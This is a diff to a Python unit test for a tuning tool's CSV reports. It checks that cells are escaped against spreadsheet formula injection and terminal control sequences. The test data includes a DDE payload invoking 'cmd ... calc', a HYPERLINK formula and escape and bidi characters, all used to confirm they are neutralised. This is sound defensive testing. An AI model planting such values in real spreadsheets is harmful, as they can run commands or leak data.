@@ -2,9 +2,9 @@
 
 from __future__ import annotations
 
-import csv
 import logging
 import math
+import re
 from itertools import chain
 from pathlib import Path
 
@@ -26,6 +26,7 @@ from hpstage.report.page import best_first
 from hpstage.report.pictures import draw_timeline
 from hpstage.report.pictures.timeline import failures
 from hpstage.report.sums import failures_of
+from hpstage.report.tables import cell
 from hpstage.store.memory import MemoryJournal
 from hpstage.testing.toys import Failing
 from tests.unit.reports import Page, read, search, write
@@ -133,25 +134,55 @@ def test_trials_whose_metric_is_nan_are_named_among_the_failures(tmp_path: Path)
     assert f"{some} failed without an exception, as where a metric is NaN (trial" in text and numbers in text
 
 
-def test_names_with_line_ends_and_quotes_come_back_from_csv_files_as_they_were(tmp_path: Path) -> None:
-    names = ['a "quoted", name', "line\nend", "carriage\rreturn", "both\r\n", "\x1b[31m", "模型🙂", "x" * 200]
+def test_cells_of_csv_files_are_text_that_steers_neither_terminals_nor_spreadsheets(tmp_path: Path) -> None:
+    names = {
+        'a "quoted", name': 'a "quoted", name',
+        "模型🙂": "模型🙂",
+        "-1.5e3": "-1.5e3",
+        "a=1": "a=1",
+        '=HYPERLINK("http://x/"&A1)': '\'=HYPERLINK("http://x/"&A1)',
+        "@SUM(1)": "'@SUM(1)",
+        "+1+1": "'+1+1",
+        "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+        "\t=1": "\\t=1",
+        "\r=1": "\\r=1",
+        "line\nend": "line\\nend",
+        "\x1b]0;title\x07": "\\x1b]0;title\\x07",
+        "\x00": "\\x00",
+        "\x9b31m": "\\x9b31m",
+        "\u202e": "\\u202e",
+    }
 
     def space(trial: optuna.Trial) -> dict[str, object]:
-        return {"a": trial.suggest_categorical("a", names), "b\r\n": trial.suggest_categorical('b"\r', names)}
+        return {"a": trial.suggest_categorical("a", list(names)), "b": trial.suggest_categorical('b"\r', list(names))}
 
     journal = MemoryJournal()
-    study = optuna.create_study(study_name="line\rend", sampler=optuna.samplers.RandomSampler(seed=0))
-    options = {"metric": "value", "steps": 2, "n_trials": 12, "executor": SimulatedExecutor(1), "store": journal}
+    study = optuna.create_study(
+        study_name="=line\rend", sampler=optuna.samplers.GridSampler({"a": list(names), 'b"\r': ["a=1"]}, seed=0)
+    )
+    options = {
+        "metric": "value",
+        "steps": 2,
+        "n_trials": len(names),
+        "executor": SimulatedExecutor(1),
+        "store": journal,
+    }
     hpstage.optimize(study, object(), space, **options)  # type: ignore[arg-type]
     write_report(tmp_path, journal)
-    table = pd.read_csv(tmp_path / "trials.csv", dtype=str)
     assert (tmp_path / "workers.csv").read_bytes().count(b"\r") == 0, "rows end as on Unix"
+    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", (tmp_path / "trials.csv").read_bytes())
+    table = pd.read_csv(tmp_path / "trials.csv", dtype=str)
     for rows in (read(tmp_path / "trials.csv"), table.to_dict("records")):
-        assert [row["params_a"] for row in rows] == [t.params["a"] for t in study.trials]
-        assert [row['params_b"\r'] for row in rows] == [t.params['b"\r'] for t in study.trials]
-        assert {row["study"] for row in rows} == {"line\rend"}
-    with (tmp_path / "trials.csv").open(newline="") as file:
-        assert len(list(csv.reader(file))) == 13
+        assert [row["params_a"] for row in rows] == [names[t.params["a"]] for t in study.trials]
+        assert {row['params_b"\\r'] for row in rows} == {"a=1"}
+        assert {row["study"] for row in rows} == {"'=line\\rend"}
+
+
+def test_a_number_or_a_lone_surrogate_is_no_formula() -> None:
+    assert [cell(value) for value in (-1.5, -math.inf, None, True, -3, "+1", "-inf", "-")] == [
+        -1.5, -math.inf, None, True, -3, "+1", "-inf", "'-"
+    ]  # fmt: skip
+    assert cell("\udce9=1") == "\\udce9=1"
 
 
 def test_what_an_exception_says_is_logged_without_its_escape_sequences(caplog: pytest.LogCaptureFixture) -> None:
